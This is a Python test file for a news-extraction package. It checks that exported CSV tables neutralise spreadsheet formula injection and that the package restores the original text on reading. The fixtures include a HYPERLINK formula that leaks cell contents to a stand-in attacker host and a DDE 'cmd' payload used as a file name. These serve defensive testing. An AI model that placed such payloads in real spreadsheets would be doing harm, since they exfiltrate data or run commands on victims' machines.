"""No formula in the tables: a text cell that a spreadsheet would run (it
starts with = + - @, a tab or a carriage return) is written with a leading
single quote, numbers stay numbers, and ``ultimatum.read_table`` gives the
text back as it was."""
from __future__ import annotations

import re
from pathlib import Path

import pandas as pd

import ultimatum
from ultimatum.pipeline import run_extract

EVIL_TITLE = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for the full story")'
EVIL_FILE = "=cmd|' -C calc'!A0.pdf"  # no slash: a file name
#: A cell a spreadsheet would run: = + - @ tab or CR first, and not a plain number.
_RUNS = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")


def _corpus(folder: Path) -> Path:
    folder.mkdir()
    (folder / "evil.txt").write_text(
        f"{EVIL_TITLE}\n\nMOSCOW, Dec 17, 2021 (Reuters) - Russia published its draft treaties.\n\n"
        "- Russia demanded that NATO rescind its promise to admit Ukraine, the foreign ministry said.\n\n"
        "@NATO rejected the Russian demand for guarantees, Stoltenberg said.\n", encoding="utf-8")
    (folder / EVIL_FILE).write_bytes(b"%PDF-1.4\n")
    return folder


def _raw_cells(path: Path) -> pd.DataFrame:
    return pd.read_csv(path, dtype=str, keep_default_na=False)


def test_no_table_cell_starts_a_formula(tmp_path: Path) -> None:
    out = tmp_path / "out"
    run_extract(_corpus(tmp_path / "raw"), out, use_cache=False)
    tables = {name: _raw_cells(out / f"{name}.csv") for name in ("articles", "events", "claims", "skipped")}
    for name, table in tables.items():
        for column in table.columns:
            risky = [v for v in table[column] if _RUNS.match(v) and not _NUMBER.match(v)]
            assert not risky, f"{name}.csv {column}: {risky[:3]}"
    assert tables["articles"]["title"].tolist() == ["'" + EVIL_TITLE]
    assert tables["skipped"]["file"].tolist() == ["'" + EVIL_FILE]
    events = tables["events"]
    assert any(s.startswith("'- Russia demanded") for s in events["sentence"])
    assert any(s.startswith("'@NATO rejected") for s in events["sentence"])
    assert "-5.0" in set(events["weight"])  # numbers stay numbers
    assert pd.read_csv(out / "events.csv")["weight"].dtype == float


def test_read_table_gives_the_text_back(tmp_path: Path) -> None:
    out = tmp_path / "out"
    result = run_extract(_corpus(tmp_path / "raw"), out, use_cache=False)
    articles = ultimatum.read_table(out / "articles.csv")
    assert articles["title"].tolist() == [EVIL_TITLE]
    assert ultimatum.read_table(out / "skipped.csv")["file"].tolist() == [EVIL_FILE]
    events = ultimatum.read_table(out / "events.csv", dtype=str, keep_default_na=False)
    assert any(s.startswith("- Russia demanded") for s in events["sentence"])
    assert result.events["sentence"].tolist() == events["sentence"].tolist()  # the run's own tables too
    assert result.articles["title"].tolist() == [EVIL_TITLE]


def test_neutralising_is_exact_and_leaves_ordinary_text_alone() -> None:
    from ultimatum.cells import neutralise, restore
    values = ["=1+1", "+44 20 7946 0000", "-", "- a dash", "@user", "\tindented", "\rreturn",
              "'=already quoted", "''@twice", "'plain quote", "-5.0", "+3", "1e-3", "plain", "", None, 7]
    table = pd.DataFrame({"text": values, "weight": [-5.0] * len(values)})
    written = neutralise(table)
    assert written["text"].tolist() == [
        "'=1+1", "'+44 20 7946 0000", "'-", "'- a dash", "'@user", "'\tindented", "'\rreturn",
        "''=already quoted", "'''@twice", "'plain quote", "-5.0", "+3", "1e-3", "plain", "", None, 7]
    assert written["weight"].tolist() == [-5.0] * len(values)
    assert restore(written)["text"].tolist() == values
    pandas_users = written["text"].str.replace(r"^'(?='*[=+\-@\t\r])", "", regex=True)  # the README's recipe
    assert pandas_users.tolist()[:14] == values[:14]
    ordinary = pd.DataFrame({"title": ["Russia demands guarantees"], "n": [3]})
    assert neutralise(ordinary) is ordinary
